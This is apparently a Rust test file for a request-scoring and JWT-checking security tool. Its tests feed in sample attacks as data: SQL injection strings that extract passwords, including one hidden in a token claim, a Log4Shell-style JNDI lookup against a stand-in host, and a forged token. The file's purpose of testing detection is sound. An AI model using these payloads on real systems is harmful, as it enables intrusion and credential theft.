//! `jotwatch score` as a user runs it.

use std::fs;

use jotwatch_tests::{
    binary,
    tokens::{HS256_HEADER, SECRET, sign},
};
use serde_json::{Value, json};

fn score(arguments: &[&str], requests: &[Value]) -> (Vec<Value>, i32) {
    let arguments: Vec<&str> = ["score"].iter().chain(arguments).copied().collect();
    let lines: Vec<String> = requests.iter().map(Value::to_string).collect();
    binary::answers(&arguments, &lines)
}

#[test]
fn requests_are_scored_line_by_line() {
    let (answers, code) = score(
        &[],
        &[
            json!({"method": "GET", "path": "/orders/7?limit=10", "headers": {"Host": "a"}}),
            json!({"path": "/items?id=1%27%20union%20select%201,password%20from%20users--%20"}),
            json!({"path": "/", "headers": [["User-Agent", "${jndi:ldap://x.example/a}"]]}),
        ],
    );
    assert_eq!(code, 0);
    let verdicts: Vec<&str> = answers.iter().map(|a| a["verdict"].as_str().unwrap()).collect();
    assert_eq!(verdicts, ["allow", "alert", "alert"]);
    assert_eq!(answers[0]["score"], 0);
    assert_eq!(answers[0]["reasons"], json!([]));
    for (line, answer) in (1..).zip(&answers) {
        assert_eq!(answer["line"], line);
        assert_eq!(answer["findings"], json!([]));
    }
    let reason = &answers[1]["reasons"][0];
    // 87 % where half of all requests are attacks, as it was asked for before scores were brought
    // to 1 % of attacks, is 6 there; it is far beyond.
    assert!(answers[1]["score"].as_u64().unwrap() >= 87, "{}", answers[1]);
    assert_eq!(reason["source"], "payload");
    assert!(reason["detail"].as_str().unwrap().starts_with("sqli in the query: "), "{reason}");
}

#[test]
fn tokens_are_judged_and_held_against_the_lines_before() {
    let dir = tempfile::tempdir().unwrap();
    let (key, config) = (dir.path().join("key"), dir.path().join("config.toml"));
    fs::write(&key, SECRET).unwrap();
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o600);
    fs::set_permissions(&key, mode).unwrap();
    let text = format!(
        "[[issuer]]\nissuer = \"https://id.example\"\nalgorithms = [\"HS256\"]\nsecret_files = [{key:?}]\n"
    );
    fs::write(&config, text).unwrap();
    let claims = r#"{"iss":"https://id.example","sub":"ann","iat":1700000000,"exp":1700003600}"#;
    let good = sign(HS256_HEADER, claims, SECRET);
    let forged = sign(HS256_HEADER, &claims.replace("ann", "bob"), b"another secret");
    let request = |token: &str, client: &str, time: u64| {
        json!({
            "path": "/", "client_ip": client, "time": time,
            "headers": {"Authorization": format!("Bearer {token}"), "Host": "a"},
        })
    };
    let requests = [
        request(&good, "192.0.2.1", 1_700_000_010),
        request(&good, "192.0.2.1", 1_700_000_020),
        request(&forged, "192.0.2.1", 1_700_000_030),
        request(&good, "198.51.100.9", 1_700_000_400),
        request(&good, "192.0.2.1", 1_700_009_000),
    ];
    let (answers, code) = score(&["--config", config.to_str().unwrap()], &requests);
    assert_eq!(code, 0);
    let found: Vec<(&str, Vec<&str>)> = answers
        .iter()
        .map(|answer| {
            let findings = answer["findings"].as_array().unwrap();
            let ids = findings.iter().map(|finding| finding["id"].as_str().unwrap());
            (answer["verdict"].as_str().unwrap(), ids.collect())
        })
        .collect();
    assert_eq!(found[0], ("allow", vec![]));
    assert_eq!(found[1], ("allow", vec![]));
    assert_eq!(found[2], ("block", vec!["signature-invalid"]));
    assert_eq!(answers[2]["score"], 100);
    assert_eq!(answers[2]["reasons"][0]["id"], "signature-invalid");
    assert_eq!(found[3], ("alert", vec!["token-replayed-address"]));
    assert!(found[4].1.contains(&"token-expired"), "{found:?}");
    for answer in &answers {
        assert!(!answer.to_string().contains(good.rsplit('.').next().unwrap()));
    }
}

/// A token that was seen before is not looked at again where it was harmless, and only there.
#[test]
fn an_attack_in_a_claim_is_found_each_time() {
    let claims = r#"{"sub":"ann","name":"x' union select password from users-- -"}"#;
    let request = |claims: &str| {
        let token = sign(HS256_HEADER, claims, SECRET);
        json!({"path": "/", "headers": {"Authorization": format!("Bearer {token}")}})
    };
    let (bad, good) = (request(claims), request(r#"{"sub":"ann","name":"O'Brien"}"#));
    let (answers, code) = score(&[], &[bad.clone(), good.clone(), bad, good]);
    assert_eq!(code, 0);
    for (at, answer) in answers.iter().enumerate() {
        let reasons = answer["reasons"].as_array().unwrap().iter();
        let payload: Vec<&str> = reasons
            .filter(|reason| reason["source"] == "payload")
            .filter_map(|reason| reason["detail"].as_str())
            .collect();
        assert_eq!(payload.is_empty(), at % 2 == 1, "{answer}");
        assert!(at % 2 == 1 || payload[0].starts_with("sqli in a claim: "), "{payload:?}");
    }
}

#[test]
fn a_bad_line_is_told_and_the_others_are_scored() {
    let lines = ["{\"path\":\"/\"}", "nonsense", "{\"path\":7}", "[]", "", "{\"path\":\"/x\"}"];
    let lines: Vec<String> = lines.map(str::to_owned).to_vec();
    let (answers, code) = binary::answers(&["score"], &lines);
    assert_eq!(code, 1);
    assert_eq!(answers.len(), lines.len());
    assert_eq!((&answers[0]["score"], &answers[5]["score"]), (&json!(0), &json!(0)));
    assert_eq!(answers[2], json!({"line": 3, "error": "`path` is not a string"}));
    assert_eq!(answers[3], json!({"line": 4, "error": "not a JSON object"}));
    for at in [1, 4] {
        assert!(answers[at]["error"].as_str().unwrap().starts_with("no JSON: "));
    }
}

#[test]
fn a_model_that_is_none_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("model");
    fs::write(&file, "no model").unwrap();
    for path in [file.to_str().unwrap(), "/nonexistent/model"] {
        let (answers, code) = score(&["--model", path], &[json!({"path": "/"})]);
        assert_eq!((answers.len(), code), (0, 1));
    }
}
